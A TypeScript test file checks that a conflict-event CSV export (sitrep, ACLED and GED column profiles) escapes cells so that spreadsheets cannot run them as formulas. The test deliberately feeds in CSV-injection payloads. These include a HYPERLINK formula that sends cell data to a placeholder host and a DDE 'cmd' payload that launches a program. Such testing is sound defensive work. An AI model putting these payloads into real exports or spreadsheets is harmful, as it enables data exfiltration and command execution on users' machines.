// No cell of a CSV runs in a spreadsheet, whatever an article, a name or an address begins with.
import { env } from 'cloudflare:workers';
import { beforeAll, describe, expect, it } from 'vitest';
import { ACLED_COLUMNS, GED_COLUMNS, SITREP_COLUMNS } from '../../src/export/columns.ts';
import { type Cell, csvLine } from '../../src/export/csv.ts';
import { type ExportedEvent, readEvents } from '../../src/export/events.ts';
import { FORMATS } from '../../src/export/formats.ts';
import { storeArticle } from '../graphql/stored.ts';

/** OWASP's list, and that of its verification standard. */
const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '\t=', '\r\n@', '\n+'];
const FORMULA = `1+1;=1;"=1",=1\n=HYPERLINK("https://example.org/?"&A1)\r@SUM(A1)\t-1|+cmd|' /C calc'!A0`;

/** Fields of a record as a spreadsheet with this separator takes them apart, where a quote only counts at a field's beginning. */
function fieldsOf(record: string, separator: string): string[] {
  const pattern = new RegExp(`(?:"((?:[^"]|"")*)"|([^${separator}\r\n]*))(?:${separator}|\r\n|[\r\n]|$)`, 'g');
  return [...record.matchAll(pattern)].map(([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain);
}

const RUNS = /^[=+\-@\t\r\n\0＝＋－＠]/;
/** What is a number alone, and not a text that looks like one. */
const NUMBER = /^-?\d+(?:\.\d+)?$/;

/** A copy in which every text begins with `beginning` and goes on with formulas. */
function poison<Value>(value: Value, beginning: string): Value;
function poison(value: unknown, beginning: string): unknown {
  if (typeof value === 'string') return `${beginning}${FORMULA}`;
  if (Array.isArray(value)) return value.map((item) => poison(item, beginning));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, poison(item, beginning)]));
}

let events: readonly ExportedEvent[];

beforeAll(async () => {
  await storeArticle('');
  const pages = readEvents(env.DB.withSession(), { condition: undefined, after: null, last: null });
  const read: ExportedEvent[] = [];
  for await (const page of pages) read.push(...page);
  events = read;
  expect(events).not.toEqual([]);
});

const PROFILES = { sitrep: SITREP_COLUMNS, acled: ACLED_COLUMNS, ged: GED_COLUMNS };

describe.each(Object.entries(PROFILES))('the columns of %s', (profile, columns) => {
  it('are all that the export has', () => {
    expect(FORMATS['events.csv']?.[profile]?.before).toBe(csvLine(columns.map(([heading]) => heading)));
    expect(Object.keys(FORMATS['events.csv'] ?? {})).toEqual(Object.keys(PROFILES));
  });

  it.each(BEGINNINGS.map((beginning) => [JSON.stringify(beginning), beginning]))(
    'run nothing that begins with %s',
    (_name, beginning) => {
      for (const event of events.map((whole) => poison(whole, beginning))) {
        for (const [heading, cell] of columns) {
          let value: Cell;
          try {
            value = cell(event);
          } catch {
            // A day that is none has no seconds.
            continue;
          }
          for (const separator of [',', ';', '\t']) {
            const running = fieldsOf(csvLine([value]), separator).filter(
              (field) => RUNS.test(field) && !NUMBER.test(field),
            );
            expect(running, `${heading}, parted at ${JSON.stringify(separator)}`).toEqual([]);
          }
        }
      }
    },
  );
});

describe('a cell', () => {
  it.each<[Cell, string]>([
    ['a', 'a'],
    [-5, '-5'],
    [35.5, '35.5'],
    ['-5', "'-5"],
    ['2019-04-20', '2019-04-20'],
    ['al-Bab', 'al-Bab'],
    ['Homs; Hama', '"Homs; Hama"'],
    ['a "b"', '"a ""b"""'],
    ['a;=1', `"a;'=1"`],
    ['a\n=1', `"a\n'=1"`],
    ['\0=1', "'\0=1"],
    ['', ''],
    [null, ''],
  ])('%j is written as %j', (cell, written) => {
    expect(csvLine([cell])).toBe(`${written}\r\n`);
  });
});
